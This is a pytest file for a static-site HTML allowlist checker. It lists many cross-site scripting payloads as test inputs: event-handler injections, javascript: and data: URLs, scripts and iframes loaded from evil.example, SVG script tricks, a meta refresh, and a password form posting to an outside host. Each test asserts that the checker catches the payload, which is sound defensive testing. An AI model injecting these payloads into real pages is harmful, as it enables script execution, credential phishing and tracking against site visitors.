"""The published-HTML allowlist: a built site passes; every way script got in is caught, naming the page.

The site built is the fixture digest's (the shipped site's own check is test_content_site.py).
Payloads are rendered with Python-Markdown and the site's extensions (as MkDocs renders
a page), or placed where the theme puts them unescaped (a front-matter title in the
navigation), then checked as the plugin checks each page.
"""

from __future__ import annotations

import markdown
import pytest

from conftest import LANGS
from digest.allowlist import INLINE_SCRIPTS, check_folder, check_page, check_svg, script_hash

EXTENSIONS = ["toc", "admonition", "tables", "fenced_code"]
PAGE = f"content/{LANGS[0]}/about.md"


def _page(body: str, title: str = "About") -> str:
    """A page shaped like Material's: head with its scripts, nav with the title, the content."""
    return (f'<!doctype html><html lang="{LANGS[0]}"><head><meta charset="utf-8"><title>{title}</title>'
            f'<script src="../assets/javascripts/bundle.js"></script></head><body>'
            f'<nav class="md-nav"><a href="../about/" class="md-nav__link"><span class="md-ellipsis">{title}</span></a></nav>'
            f'<article class="md-content__inner md-typeset">{body}</article></body></html>')


def _rendered(text: str) -> str:
    return _page(markdown.markdown(text, extensions=EXTENSIONS))


def _problems(html: str) -> str:
    return "\n".join(str(p) for p in check_page(html, PAGE))


def test_the_built_site_passes(built_site) -> None:  # noqa: ANN001
    assert check_folder(built_site) == []


def test_a_clean_page_passes() -> None:
    text = ("# About\n\nText with a [link](https://example.org/) and a [page](../index.md#x).\n\n"
            "> Quote\n\n| a | b |\n|:--|--:|\n| c | d |\n\n!!! note\n    Note\n\n[mail](mailto:a@example.org)\n")
    assert _problems(_rendered(text)) == ""


@pytest.mark.parametrize("text, expected", [
    # the four ways, and relatives of each
    ("Se ](https://x.example/<img src=x onerror=alert(document.domain)>) her.", "event handler onerror= on <img>"),
    ("> [evil]: javascript:alert(document.domain)\n>\n> [x][evil]", "javascript: URL in href= on <a>"),
    ("- [evil]: javascript:alert(document.domain)\n- [x][evil]", "javascript: URL in href= on <a>"),
    ("[x](java\tscript:alert(document.domain))", "javascript: URL"),
    ("[x](JaVaScRiPt:alert(document.domain))", "javascript: URL"),
    ("[x](data:text/html;base64,PHNjcmlwdD4=)", "data: URL"),
    ("[x](//evil.example/)", "(network-path)"),
    ("![x](javascript:alert(document.domain))", "javascript: URL in src= on <img>"),
    ("<script>alert(document.domain)</script>", "inline <script> not in the allowlist"),
    ('<script src="https://evil.example/x.js"></script>', "<script src="),
    ('<script type="module">alert(document.domain)</script>', "<script type='module'>"),
    ('<script type="application/ld+json">}{alert(document.domain)</script>', "content is not JSON"),
    ("<iframe src=https://evil.example></iframe>", "element <iframe>"),
    ("<svg><script>alert(document.domain)</script></svg>", "element <script>"),
    ("<svg><a href=javascript:alert(document.domain)><text>x</text></a></svg>", "element <a>"),
    ("<svg><animate attributeName=href to=javascript:alert(document.domain) /></svg>", "element <animate>"),
    ('<p style="background:url(https://evil.example/track)">x</p>', "attribute style= on <p>"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "attribute http-equiv= on <meta>"),
    ('<base href="https://evil.example/">', "element <base>"),
    ('<form action="https://evil.example/"><input type=password></form>', "attribute action= on <form>"),
    ('<a href="#" onclick="alert(document.domain)">x</a>', "event handler onclick= on <a>"),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', "to another site"),
    ('<object data="x.swf"></object>', "element <object>"),
])
def test_script_and_its_relatives_are_caught(text: str, expected: str) -> None:
    problems = _problems(_rendered(text))
    assert expected in problems, problems
    assert problems.startswith(f"{PAGE}: error: published HTML not allowed")


def test_front_matter_title_in_the_navigation_is_caught() -> None:
    title = "Se ](https://x.example/<img src=x onerror=alert(document.domain)>) her."
    assert "event handler onerror= on <img>" in _problems(_page("<p>ok</p>", title=title))
    assert "inline <script>" in _problems(_page("<p>ok</p>", title="x</title><script>alert(document.domain)</script>"))


def test_inline_scripts_are_allowed_by_hash_with_only_paths_varying() -> None:
    scope = next(h for h, what in INLINE_SCRIPTS.items() if "__md_scope" in what)
    text = 'X=new URL("../..",location)'
    assert script_hash(text) == script_hash('X=new URL(".",location)')  # the per-page base URL
    assert script_hash(text) != script_hash('X=new URL("\\x2e",location);alert(1)')
    assert scope in INLINE_SCRIPTS


@pytest.mark.parametrize("svg, expected", [
    (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "element <script>"),
    (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "event handler onload="),
    (b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"><use x:href="https://e.example/a.svg#b"/></svg>', "link"),
    (b'<!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>', "internal DTD"),
    (b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><p>x</p></foreignObject></svg>', "foreignObject"),
    (b'<svg xmlns="http://www.w3.org/2000/svg"', "does not parse"),
])
def test_standalone_svg_files(svg: bytes, expected: str) -> None:
    assert expected in "\n".join(str(p) for p in check_svg(svg, "charts/x.svg"))


@pytest.mark.parametrize("text, expected", [
    ("Se ](https://x.example/<img src=x onerror=alert(document.domain)>) her.", "onerror"),
    ("> [evil]: javascript:alert(document.domain)\n>\n> [x][evil]", "javascript: URL"),
    ("# About &lt;img src=x onerror=alert(document.domain)&gt;\n", "onerror"),  # the heading becomes the nav title
    ("[x](java\tscript:alert(document.domain))", "javascript: URL"),
])
def test_validate_sees_what_the_build_would_refuse(text: str, expected: str) -> None:
    """The lint stage renders each page's prose and applies the same allowlist: validate ⇒ build."""
    from digest.allowlist import check_prose

    assert expected in "\n".join(str(p) for p in check_prose(text, PAGE))
    assert check_prose("# About\n\nPlain text with a [link](https://example.org/).\n", PAGE) == ()


def test_a_page_passed_once_is_not_parsed_again_and_nothing_else_passes_with_it(tmp_path, monkeypatch):
    """Warm builds skip pages whose exact bytes passed these rules; any other bytes are checked in full."""
    from digest import allowlist

    clean = "<!doctype html><title>x</title><p>ok</p>"
    hostile = '<!doctype html><title>x</title><p>ok</p><img src=x onerror="alert(1)">'
    assert allowlist.check_page_once(clean, "a.html", tmp_path) == []
    calls = []
    real = allowlist.check_page
    monkeypatch.setattr(allowlist, "check_page", lambda *a, **k: calls.append(a) or real(*a, **k))
    assert allowlist.check_page_once(clean, "a.html", tmp_path) == [] and calls == []  # the marker was used
    assert allowlist.check_page_once(hostile, "a.html", tmp_path)  # refused: its own bytes, no marker
    assert allowlist.check_page_once(hostile, "a.html", tmp_path) and len(calls) == 2  # a refusal leaves no marker
